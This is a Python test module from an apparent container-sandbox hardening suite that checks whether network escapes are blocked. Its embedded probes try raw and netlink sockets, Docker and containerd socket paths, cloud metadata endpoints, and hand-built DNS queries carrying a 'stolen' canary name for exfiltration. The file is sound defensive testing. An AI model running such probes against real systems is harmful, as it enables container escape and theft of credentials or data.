"""ES: a tool makes sockets, and reaches for what is on the other side of one."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Final

from toolwright.attacks.case import Catalog
from toolwright.attacks.lab import Lab
from toolwright.attacks.probes import PRELUDE, numbered
from toolwright.attacks.proof import among, same, shown, sure
from toolwright.attacks.sabotage import FILTERS, POWERS, Layer
from toolwright.attacks.shot import returned

CASES: Final = Catalog("ES", "Sockets and the network")

_SOCKETS: Final = (
    PRELUDE
    + """
def f(numbers, families, types):
    pair = (ctypes.c_int * 2)()
    answers = {}
    for family in families:
        for kind in types:
            made = system_call(numbers["socket"], family, kind, 0)
            paired = system_call(numbers["socketpair"], family, kind, 0, pair)
            for fd in pair if paired == "ok" else ():
                os.close(fd)
            answers[f"{family}/{kind}"] = [made, paired]
    return answers
"""
)
_STREAM, _DATAGRAM, _RAW, _RELIABLE, _SEQUENCED, _PACKET = 1, 2, 3, 4, 5, 10
_UNIX: Final = 1


@CASES.case(
    "ES-16",
    "Makes a socket and a pair of every family (0 to 50) and type: only a pair of unix sockets is given",
    threats=("T-EXF-01", "T-LAT-04"),
    differs={"runsc": "of types that it does not know gVisor says so with another error"},
)
def families(lab: Lab) -> None:
    types = [_STREAM, _DATAGRAM, _RAW, _RELIABLE, _SEQUENCED, _PACKET]

    answers = lab.fire(_SOCKETS, arguments_json=numbered(families=list(range(51)), types=types)).value

    unix = {kind: answers.pop(f"{_UNIX}/{kind}") for kind in types}
    same({name: answer for name, answer in answers.items() if answer != ["EPERM", "EPERM"]}, {}, "what was given")
    same(len(answers), 50 * len(types), "number of attempts")
    same({made for made, _ in unix.values()}, {"EPERM"}, "single unix sockets")
    # A raw one is taken for a datagram there; no other types are known.
    unknown = dict.fromkeys((_RELIABLE, _PACKET), lab.golden("ESOCKTNOSUPPORT", gvisor="EINVAL"))
    same({kind: pair for kind, (_, pair) in unix.items()}, {kind: unknown.get(kind, "ok") for kind in types}, "pairs")


@CASES.control("ES-16")
def sockets_without_filters(lab: Lab) -> None:
    some = numbered(families=[1, 2, 10, 16], types=[_STREAM, _DATAGRAM, _RAW])
    with lab.weakened(FILTERS) as unfiltered:
        allowed = returned(unfiltered.run(_SOCKETS, arguments_json=some))
    same(allowed["1/1"], ["ok", "ok"], "unix sockets")
    for name in ("2/1", "10/2", "16/3"):
        same(allowed[name][0], "ok", name)


_RAW_SOCKETS: Final = (
    PRELUDE
    + """
def f(numbers):
    kinds = {
        "raw ICMP": (2, 3, 1), "raw": (2, 3, 255), "raw ICMPv6": (10, 3, 58), "packet": (17, 3, 0x0300),
        "packet datagram": (17, 2, 0x0300), "netlink route": (16, 3, 0), "netlink filter": (16, 3, 12),
        "netlink audit": (16, 3, 9), "netlink events": (16, 3, 15), "ping": (2, 2, 1), "ping v6": (10, 2, 58),
    }
    return {name: system_call(numbers["socket"], *kind) for name, kind in kinds.items()}
"""
)


@CASES.case("ES-15", "Makes raw, packet, netlink and ping sockets: EPERM each", threats=("T-EXF-01", "T-LAT-05"))
def raw_sockets(lab: Lab) -> None:
    answers = lab.fire(_RAW_SOCKETS, arguments_json=numbered()).value
    same(set(answers.values()), {"EPERM"}, "answers")


@CASES.control("ES-15")
def root_with_capabilities_makes_them(lab: Lab) -> None:
    with lab.weakened(POWERS | Layer.MACHINE) as open_door:
        allowed = returned(open_door.run(_RAW_SOCKETS, arguments_json=numbered()))
    names = lab.golden(("raw ICMP", "raw", "raw ICMPv6", "packet", "netlink route", "ping"), gvisor=("netlink route",))
    for name in names:
        same(allowed[name], "ok", name)


_ENGINES: Final = (
    "/var/run/docker.sock", "/run/docker.sock", "/docker.sock", "/run/containerd/containerd.sock",
    "/run/podman/podman.sock", "/run/crio/crio.sock", "/var/run/cri-dockerd.sock", "/run/user/0/docker.sock",
)  # fmt: skip
_CONNECT: Final = (
    PRELUDE
    + """
import socket, time
def f(paths, addresses, names):
    answers = {path: attempt(os.stat, path) for path in paths}
    for path in paths:
        answers[f"connect {path}"] = attempt(lambda: socket.socket(socket.AF_UNIX).connect(path))
    for host, port in addresses:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            def connect():
                with socket.socket(family, kind) as one:
                    one.settimeout(2)
                    one.connect((host, port))
                    one.send(b"canary")
            answers[f"{host} {port} {kind.name}"] = attempt(connect)
    begun = time.monotonic()
    for name in names:
        try:
            socket.getaddrinfo(name, 80)
            answers[name] = "ok"
        except socket.gaierror:
            answers[name] = "unknown"
    return [answers, time.monotonic() - begun]
"""
)


@CASES.case(
    "ES-26",
    "Looks for the sockets of engines and connects to them, and to their ports: there is none, and no socket is given",
    threats=("T-ESC-06",),
)
def engines(lab: Lab) -> None:
    ports = [["172.17.0.1", 2375], ["127.0.0.1", 2376]]
    arguments = json.dumps({"paths": _ENGINES, "addresses": ports, "names": []})

    answers, _ = lab.fire(_CONNECT, arguments_json=arguments).value

    same({answers.pop(path) for path in _ENGINES}, {"ENOENT"}, "whether a socket is there")
    same(set(answers.values()), {"EPERM"}, "connections")


@CASES.control("ES-26")
def a_path_is_reached_without_filters(lab: Lab) -> None:
    there = json.dumps({"paths": ["/dev/null"], "addresses": [], "names": []})
    with lab.weakened(FILTERS) as unfiltered:
        reached, _ = returned(unfiltered.run(_CONNECT, arguments_json=there))
    same(reached, {"/dev/null": "ok", "connect /dev/null": "ECONNREFUSED"})  # as far as that goes with no socket


@contextmanager
def _listening() -> Iterator[tuple[int, list[str]]]:
    """Listen on the host's loopback; give the port, and what came in."""
    heard: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as streams, socket.socket(type=socket.SOCK_DGRAM) as datagrams:
        port = streams.getsockname()[1]
        datagrams.bind(("127.0.0.1", port))
        streams.settimeout(0.02)
        datagrams.settimeout(0.02)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                with suppress(TimeoutError):
                    streams.accept()[0].close()
                    heard.append("stream")
                with suppress(TimeoutError):
                    heard.append(datagrams.recv(512).decode("latin-1"))

        listener = threading.Thread(target=listen)
        listener.start()
        try:
            yield port, heard
        finally:
            over.wait(0.1)
            over.set()
            listener.join()


_ADDRESSES: Final = [
    ("169.254.169.254", 80), ("169.254.170.2", 80), ("100.100.100.200", 80), ("fd00:ec2::254", 80),
    ("172.17.0.1", 2375), ("172.17.0.1", 2376), ("10.96.0.1", 443), ("8.8.8.8", 53), ("fe80::1", 80),
]  # fmt: skip
_NAMES: Final = ["metadata.google.internal", "host.docker.internal", "kubernetes.default.svc"]
_NO_ROUTE: Final = frozenset({"ENETUNREACH", "EADDRNOTAVAIL", "EINVAL", "EHOSTUNREACH"})
_RESOLVING_S: Final = 1.0


@CASES.case(
    "ES-27",
    "Connects to metadata services, the host, clusters, the world and a listener on the host: EPERM each, names are "
    "unknown at once, and the listener hears nothing",
    threats=("T-EXF-01",),
)
def network(lab: Lab) -> None:
    with _listening() as (port, heard):
        addresses = [*_ADDRESSES, ("127.0.0.1", port), ("::1", port), ("172.17.0.1", port)]
        arguments = json.dumps({"paths": [], "addresses": addresses, "names": _NAMES})
        answers, seconds = lab.fire(_CONNECT, arguments_json=arguments).value

    same({answers.pop(name) for name in _NAMES}, {"unknown"}, "names")
    same(set(answers.values()), {"EPERM"}, "connections")
    sure(seconds < _RESOLVING_S, f"that names are unknown took {seconds:.1f} s")
    same(heard, [], "what the listener heard")


@CASES.control("ES-27")
def a_listener_hears_where_there_is_a_network(lab: Lab) -> None:
    """Without filters there is still no route; with the host's network as well, the listener hears."""
    with _listening() as (port, heard):
        with lab.weakened(FILTERS) as unfiltered:
            every = json.dumps({"paths": [], "addresses": [*_ADDRESSES, ("172.17.0.1", port)], "names": []})
            unrouted, _ = returned(unfiltered.run(_CONNECT, arguments_json=every))
        nothing = list(heard)
        with lab.weakened(FILTERS | Layer.NETWORK) as connected:
            own = json.dumps({"paths": [], "addresses": [("127.0.0.1", port)], "names": []})
            reached, _ = returned(connected.run(_CONNECT, arguments_json=own))
    routed = {name: answer for name, answer in unrouted.items() if answer not in _NO_ROUTE}
    same(routed, {}, "what has a route without filters")
    same(nothing, [], "what the listener heard without a network")
    if not lab.gvisor:  # its own network stack never uses the host's here
        same(set(reached.values()), {"ok"}, "the listener")
        same(set(heard), {"stream", "canary"}, "what the listener heard")


_QUERY: Final = (
    PRELUDE
    + """
import socket, time
def query(name):
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    return bytes.fromhex("123401000001000000000000") + labels + bytes.fromhex("0000010001")
def f(name, resolvers):
    begun, answers = time.monotonic(), {}
    for lookup in (socket.gethostbyname, lambda one: socket.getaddrinfo(one, None)):
        try:
            lookup(name)
            answers["lookup"] = "ok"
        except socket.gaierror:
            answers["lookup"] = "unknown"
    for host, port in resolvers:
        def ask():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(query(name), (host, port))
        answers[host] = attempt(ask)
    return [answers, time.monotonic() - begun]
"""
)


@CASES.case(
    "ES-28",
    "Looks a name up, and asks resolvers by packets of its own making: unknown in less than a second, EPERM, and a "
    "resolver on the host hears no question",
    threats=("T-EXF-01",),
)
def names(lab: Lab) -> None:
    with _listening() as (port, heard):
        resolvers = [("8.8.8.8", 53), ("127.0.0.11", 53), ("127.0.0.53", 53), ("127.0.0.1", port)]
        arguments = json.dumps({"name": "stolen.canary.example", "resolvers": resolvers})
        answers, seconds = lab.fire(_QUERY, arguments_json=arguments).value

    same(answers.pop("lookup"), "unknown", "the name")
    same(set(answers.values()), {"EPERM"}, "questions")
    sure(seconds < _RESOLVING_S, f"it took {seconds:.1f} s")
    same(heard, [], "what the resolver heard")


@CASES.control("ES-28", runtimes=("runc",))
def a_resolver_hears_where_there_is_a_network(lab: Lab) -> None:
    with _listening() as (port, heard), lab.weakened(FILTERS | Layer.NETWORK) as connected:
        arguments = json.dumps({"name": "localhost", "resolvers": [("127.0.0.1", port)]})
        answers, _ = returned(connected.run(_QUERY, arguments_json=arguments))
    same(answers, {"lookup": "ok", "127.0.0.1": "ok"})
    sure(any("localhost" in one for one in heard), f"the resolver heard {heard}")


_LOOPBACK: Final = (
    PRELUDE
    + """
import socket
def f():
    answers = {}
    for host, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
        listener = None
        def listen():
            nonlocal listener
            listener = socket.create_server((host, 0), family=family)
        answers[f"listen {host}"] = attempt(listen)
        port = listener.getsockname()[1] if listener else 80
        def connect():
            with socket.socket(family) as one:
                one.settimeout(2)
                one.connect((host, port))
        answers[f"connect {host}"] = attempt(connect)
    return answers
"""
)


@CASES.case(
    "ES-29",
    "Listens on and connects to 127.0.0.1 and ::1, where another call could have left a listener: EPERM each",
    threats=("T-LAT-04", "T-EXF-01"),
)
def loopback(lab: Lab) -> None:
    answers = lab.fire(_LOOPBACK).value
    same(len(answers), 4, "number of attempts")
    same(set(answers.values()), {"EPERM"}, "answers")


@CASES.control("ES-29")
def loopback_works_without_filters(lab: Lab) -> None:
    with lab.weakened(FILTERS) as unfiltered:
        answers = returned(unfiltered.run(_LOOPBACK))
    shown(answers["listen 127.0.0.1"] == answers["connect 127.0.0.1"] == "ok", f"loopback does not work: {answers}")


_NETWORK: Final = (
    PRELUDE
    + """
import fcntl, socket
def f():
    # The interfaces, one's flags, its driver; then what makes the host look for modules of VLANs and bridges.
    asked = {"flags": 0x8913, "driver": 0x8946, "VLAN": 0x8982, "bridge": 0x8940, "new bridge": 0x89A0, "first": 0x8900,
             "last": 0x89FF, "waiting bytes": 0x541B}
    pair = socket.socketpair()
    return {name: attempt(fcntl.ioctl, pair[0], number, b"lo".ljust(256, bytes(1))) for name, number in asked.items()}
"""
)


@CASES.case(
    "ES-55",
    "Asks a socket pair, the only socket that it can have, for devices, VLANs and bridges of the network, which would "
    "make the host load modules: EPERM each",
    threats=("T-ESC-01", "T-EXF-01"),
)
def network_by_ioctl(lab: Lab) -> None:
    answers = lab.fire(_NETWORK).value
    same(answers.pop("waiting bytes"), "ok", "what a socket itself is asked")
    same(set(answers.values()), {"EPERM"}, f"answers {answers}")


@CASES.control("ES-55")
def a_pair_answers_for_the_network_without_filters(lab: Lab) -> None:
    with lab.weakened(FILTERS) as unfiltered:
        allowed = returned(unfiltered.run(_NETWORK))
    among(allowed["flags"], lab.golden({"ok"}, gvisor={"ok", "ENOTTY"}), "flags of the loopback interface")
    sure(allowed["VLAN"] != "EPERM", f"VLANs {allowed}")
